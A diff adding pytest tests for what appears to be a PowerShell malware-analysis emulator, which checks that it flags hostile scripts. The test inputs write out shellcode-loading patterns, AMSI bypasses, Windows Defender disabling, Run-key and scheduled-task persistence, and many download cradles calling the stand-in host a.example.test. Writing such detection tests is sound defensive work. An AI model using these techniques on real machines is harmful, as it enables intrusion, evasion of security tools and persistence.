@@ -1,0 +1,190 @@
+"""What scripts do beside fetching files: code in memory, switched off scanners, persistence, files, other programs."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+from evaluate.powershell.psrun import run, value
+
+CODE = bytes(range(1, 200))
+BYTES = ",".join(hex(byte) for byte in CODE)
+
+
+def binaries(out):
+    return [child.data for child in out.children if child.how != "simplified" and not child.kind.startswith("script")]
+
+
+def test_bytes_put_into_memory_by_functions_that_are_imported():
+    out = run(
+        '$d=\'[DllImport("kernel32.dll")]public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);[DllImport("kernel32.dll")]'
+        'public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);[DllImport("msvcrt.dll")]'
+        "public static extern IntPtr memset(IntPtr a, uint b, uint c);';$w=Add-Type -memberDefinition $d -Name W -namespace F -passthru;"
+        f"[Byte[]]$z={BYTES};$g=0x1000;if($z.Length -gt 0x1000){{$g=$z.Length}};$x=$w::VirtualAlloc(0,0x1000,$g,0x40);"
+        "for($i=0;$i -le ($z.Length-1);$i++){$w::memset([IntPtr]($x.ToInt32()+$i),$z[$i],1)};$w::CreateThread(0,0,$x,0,0,0);for(;;){Start-sleep 60}"
+    )
+    assert out.values("effect.load") == ["shellcode of 199 bytes"]
+    assert CODE in binaries(out)
+    assert not out.problems
+
+
+def test_bytes_called_through_a_delegate():
+    out = run(
+        "function f($m,$p){$a=([AppDomain]::CurrentDomain.GetAssemblies()|?{$_.GlobalAssemblyCache -And $_.Location.Split('\\\\')[-1].Equals('System.dll')})"
+        ".GetType('Microsoft.Win32.UnsafeNativeMethods');$a.GetMethod('GetProcAddress').Invoke($null,@($a.GetMethod('GetModuleHandle').Invoke($null,@($m)),$p))};"
+        f"[Byte[]]$c=[Convert]::FromBase64String('{base64.b64encode(CODE).decode()}');"
+        "$v=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((f kernel32.dll VirtualAlloc),$t).Invoke([IntPtr]::Zero,$c.Length,0x3000,0x40);"
+        "[Runtime.InteropServices.Marshal]::Copy($c,0,$v,$c.length);"
+        "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($v,$t).Invoke([IntPtr]::Zero)"
+    )
+    assert out.values("effect.load") == ["shellcode of 199 bytes"]
+    assert CODE in binaries(out)
+
+
+def test_assemblies_loaded_from_bytes():
+    packed = base64.b64encode(b"MZ" + CODE).decode()
+    out = run(f"$a=[Reflection.Assembly]::Load([Convert]::FromBase64String('{packed}'));[X.Y]::Run('http://a.example.test/')")
+    assert out.values("effect.load") == ["assembly of 201 bytes"]
+    assert b"MZ" + CODE in binaries(out)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+        "[Ref].Assembly.GetType('System.Management.Automation.'+$('Ams'+'iUtils')).GetField($('am'+'siInitFailed'),'NonPublic,Static').SetValue($null,$true)",
+        (
+            "$x=[Ref].Assembly.GetTypes();foreach($t in $x){if($t.Name -like '*iUtils'){$c=$t}};[Ref].Assembly.GetType('System.Management.Automation.Utils')"
+            ".GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null)"
+        ),
+    ],
+)
+def test_scanning_and_logging_switched_off(text):
+    assert run(text).values("evade.amsi")
+
+
+def test_windows_defender():
+    assert run("Set-MpPreference -DisableRealtimeMonitoring $true").values("evade.defender")
+    assert run("Add-MpPreference -ExclusionPath 'C:\\Users\\Public'").values("evade.defender")
+
+
+def test_registry_tasks_and_files():
+    out = run(
+        "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name upd -Value 'mshta http://a.example.test/x' -Force;"
+        "schtasks /create /tn upd /tr 'C:\\x.exe' /sc minute;"
+        "Set-Content $env:TEMP\\a.vbs 'MsgBox 1';wscript $env:TEMP\\a.vbs;"
+        "[IO.File]::WriteAllBytes('C:\\ProgramData\\b.dll',[Convert]::FromBase64String('TVqQ'));regsvr32 /s C:\\ProgramData\\b.dll"
+    )
+    assert "mshta http://a.example.test/x" in out.facts("effect.registry")[0].value + str(out.facts("effect.registry")[0].detail)
+    assert out.values("effect.schedule") == [r"C:\x.exe"]
+    assert out.values("effect.write") == [r"C:\Users\tanaka\AppData\Local\Temp\a.vbs", r"C:\ProgramData\b.dll"]
+    assert b"MZ\x90" in binaries(out)
+    assert [line.split()[0].lower() for line in out.values("effect.run")] == ["schtasks", "wscript", "regsvr32"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "(New-Object Net.WebClient).DownloadString('http://a.example.test/x')",
+        "Invoke-WebRequest http://a.example.test/x -OutFile C:\\x.exe",
+        "iwr -Uri http://a.example.test/x",
+        "curl http://a.example.test/x -o C:\\x",
+        "Invoke-RestMethod -Method Get http://a.example.test/x",
+        "Start-BitsTransfer -Source http://a.example.test/x -Destination C:\\x.exe",
+        "[Net.WebRequest]::Create('http://a.example.test/x').GetResponse()",
+        "$h=New-Object -ComObject MSXML2.XMLHTTP;$h.open('GET','http://a.example.test/x',$false);$h.send()",
+        "(New-Object Net.Http.HttpClient).GetStringAsync('http://a.example.test/x').Result",
+        "$w=New-Object Net.WebClient;$w.BaseAddress='http://a.example.test/';$w.OpenRead('http://a.example.test/x')",
+        "[Net.WebClient]::new().DownloadData('http://a.example.test/x')",
+    ],
+)
+def test_ways_to_download(text):
+    assert run(text).urls == ["http://a.example.test/x"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Start-Process C:\\x.exe",
+        "saps C:\\x.exe",
+        "& C:\\x.exe",
+        "C:\\x.exe",
+        "Invoke-Item C:\\x.exe",
+        "[Diagnostics.Process]::Start('C:\\x.exe')",
+        "(New-Object -ComObject WScript.Shell).Run('C:\\x.exe',0)",
+        "(New-Object -com Shell.Application).ShellExecute('C:\\x.exe')",
+        "([wmiclass]'Win32_Process').Create('C:\\x.exe')",
+        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'C:\\x.exe'",
+        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\\x.exe'}",
+        "$p=New-Object Diagnostics.Process;$p.StartInfo.FileName='C:\\x.exe';$p.Start()",
+        "cmd /c C:\\x.exe",
+    ],
+)
+def test_ways_to_start_a_program(text):
+    assert any("C:\\x.exe" in line for line in run(text).values("effect.run"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "if((Get-WmiObject Win32_ComputerSystem).Model -match 'VMware'){exit};if($env:USERDOMAIN -ne 'CORP-X'){exit};iwr http://a.example.test/x",
+        "if($env:USERDOMAIN -ne 'CORP-X'){exit}\niwr http://a.example.test/x",
+        "if($env:USERNAME -eq 'somebody'){iwr http://a.example.test/x}",
+        "if((Get-Culture).Name -eq 'it-IT'){iwr http://a.example.test/x}else{exit}",
+        "if((Get-Date).Year -gt 2030){exit};iwr http://a.example.test/x",
+    ],
+)
+def test_guards_do_not_hide_what_comes_behind(text):
+    assert run(text).urls == ["http://a.example.test/x"]
+
+
+@pytest.mark.parametrize(
+    ("expression", "result"),
+    [
+        ("1..3 -join ','", "1,2,3"),
+        ("'{0:x2}-{1,4}|{2,-3}|' -f 10,'a','b'", "0a-   a|b  |"),
+        ("'abc'[-1..-3] -join ''", "cba"),
+        ("[int]'0x10' + 1", "17"),
+        ("5 / 2", "2.5"),
+        ("6 / 2", "3"),
+        ("'5' + 2", "52"),
+        ("2 + '5'", "7"),
+        ("'a' * 3", "aaa"),
+        ("(1,2,3 | ? { $_ -gt 1 }) -join '+'", "2+3"),
+        ("@{a=1;b=2}['b']", "2"),
+        ("'a,b;c' -split '[,;]' -join '|'", "a|b|c"),
+        ("'AbC' -creplace '[A-Z]','_'", "_b_"),
+        ("'x1y22' -replace '(\\d+)','<$1>'", "x<1>y<22>"),
+        ("[regex]::Unescape('\\x41\\u0042')", "AB"),
+        ("[Text.Encoding]::ASCII.GetString((72,105))", "Hi"),
+        ("[BitConverter]::ToString((1,171))", "01-AB"),
+        ("[uri]::UnescapeDataString('a%20b')", "a b"),
+        ("'abc'.Substring(1).ToUpper().PadLeft(4,'*')", "**BC"),
+        ("$(switch('b'){'a'{1}'b'{2}default{3}})", "2"),
+        ("$(try{throw 'x'}catch{\"got $_\"})", "got x"),
+        ("$(function f($a,$b=2){$a*$b}; f 4)", "8"),
+        ("$($x=@{p='v'}; \"$($x.p) and $x\")", "v and System.Collections.Hashtable"),
+        ("0x41 -bxor 0x13", "82"),
+        ("7 -band 3 -bor 8", "11"),
+        ("-not $false -and (1 -eq 1)", "True"),
+        ("(Get-Date).GetType().Name", "DateTime"),
+        ("'abc' -like 'a*'", "True"),
+        ("$env:PUBLIC", r"C:\Users\Public"),
+        ("[math]::Round(2.5)", "2"),
+        ("[int]2.5", "2"),
+        ("[int]3.5", "4"),
+        ("'10' -eq 10", "True"),
+        ("(3,1,2|sort) -join ''", "123"),
+        ("('a b c'.Split())[1]", "b"),
+        ("[string]::Format('{0}{1}','a',1)", "a1"),
+        ("[array]('a','b').Length", "2"),
+        ("\"a`tb$('c'*2)\"", "a\tbcc"),
+        ("$(1,2,3)[-1]", "3"),
+        ("(& {param($a) $a+1} 4)", "5"),
+        ("$($a=1;$a+=2;$a++;$a)", "4"),
+        ("[Convert]::ToString(10,2)", "1010"),
+        ("[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('a'))", "YQA="),
+    ],
+)  # fmt: skip
+def test_values(expression, result):
+    assert value(expression) == result
